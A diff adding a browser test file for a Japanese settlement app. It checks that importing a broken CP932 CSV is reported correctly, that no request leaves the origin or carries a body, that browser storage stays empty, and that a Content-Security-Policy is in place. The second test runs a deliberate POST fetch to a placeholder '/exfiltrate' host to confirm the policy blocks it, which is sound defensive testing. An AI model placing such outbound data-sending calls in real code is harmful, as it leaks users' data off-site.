@@ -1,0 +1,91 @@
+// Privacy guard: the app makes no request except GETs of its own files, sends
+// no body, and keeps imported records out of every browser store. The import of
+// a CP932 file with a broken row is checked on the way.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { readdirSync } from 'node:fs';
+import { join } from 'node:path';
+import { serveDist, launch, openApp, screenshot, cspViolations, root } from './harness.mjs';
+
+const fixture = join(root, 'tests', 'fixtures', 'cp932-broken');
+
+let server;
+let browser;
+before(async () => {
+  server = await serveDist();
+  browser = await launch();
+});
+after(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+test('no request leaves the origin, none has a body, nothing is stored', async () => {
+  const requests = [];
+  const { context, page, errors } = await openApp(browser, server.url);
+  context.on('request', (r) => requests.push({ url: r.url(), method: r.method(), body: r.postData() }));
+  // Requests made before the listener: the page load itself, re-checked below by reloading.
+  await page.reload();
+  await page.waitForSelector('[data-testid=settlement-table] tbody tr');
+
+  await page.getByRole('button', { name: 'データ取込' }).click();
+  const files = readdirSync(fixture).map((f) => join(fixture, f));
+  await page.setInputFiles('[data-testid=file-input]', files);
+  await page.waitForSelector('tr[data-file="progress.csv"]');
+
+  // The summary reconciles and names the broken row.
+  const progress = page.locator('tr[data-file="progress.csv"]');
+  assert.equal(await progress.locator('[data-testid=read]').innerText(), '7');
+  assert.equal(await progress.locator('[data-testid=accepted]').innerText(), '6');
+  assert.equal(await progress.locator('[data-testid=rejected]').innerText(), '1');
+  assert.match(await progress.innerText(), /CP932/);
+  assert.equal(await page.innerText('[data-testid=import-totals]'), '読込 16 = 採用 15 + 除外 1');
+  const problems = await page.locator('[data-testid=problem-list] tbody tr').allInnerTexts();
+  assert.equal(problems.length, 1);
+  assert.match(problems[0], /progress\.csv\s+5\s+事業者督励月数\s+9O\s+数値として読めません。/);
+  assert.equal(await page.locator('[data-testid=demo-badge]').count(), 0, 'the demo badge is gone');
+  await screenshot(page, 'import-cp932-broken');
+
+  // The settlement is withheld (a table it reads lost a row), but the good rows
+  // were loaded: the office names, with CP932 extension characters, are there.
+  await page.getByRole('button', { name: '概況' }).click();
+  assert.match(await page.innerText('body'), /データがありません|精算/);
+
+  const origin = new URL(server.url).origin;
+  assert.ok(requests.length > 0, 'requests were observed');
+  for (const r of requests) {
+    assert.equal(new URL(r.url).origin, origin, `request left the origin: ${r.url}`);
+    assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
+    assert.equal(r.body, null, `request with a body: ${r.url}`);
+  }
+  const stores = await page.evaluate(async () => ({
+    local: Object.keys(localStorage),
+    session: Object.keys(sessionStorage),
+    cookie: document.cookie,
+    idb: (await indexedDB.databases()).map((d) => d.name),
+    caches: await caches.keys(),
+  }));
+  assert.deepEqual(stores, { local: [], session: [], cookie: '', idb: [], caches: [] });
+  assert.deepEqual(await cspViolations(page), [], 'the app attempted something its policy refuses');
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('the page carries a Content-Security-Policy that allows only its own origin', async () => {
+  const { context, page } = await openApp(browser, server.url);
+  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
+  assert.match(csp, /default-src 'none'/);
+  assert.match(csp, /connect-src 'self'(;|$)/);
+  assert.match(csp, /form-action 'none'/);
+  const blocked = await page.evaluate(async () => {
+    try {
+      await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'x' });
+      return false;
+    } catch {
+      return true;
+    }
+  });
+  assert.ok(blocked, 'a fetch to another origin is refused by the policy');
+  assert.deepEqual(await cspViolations(page), ['connect-src http://127.0.0.2:9/exfiltrate']);
+  await context.close();
+});
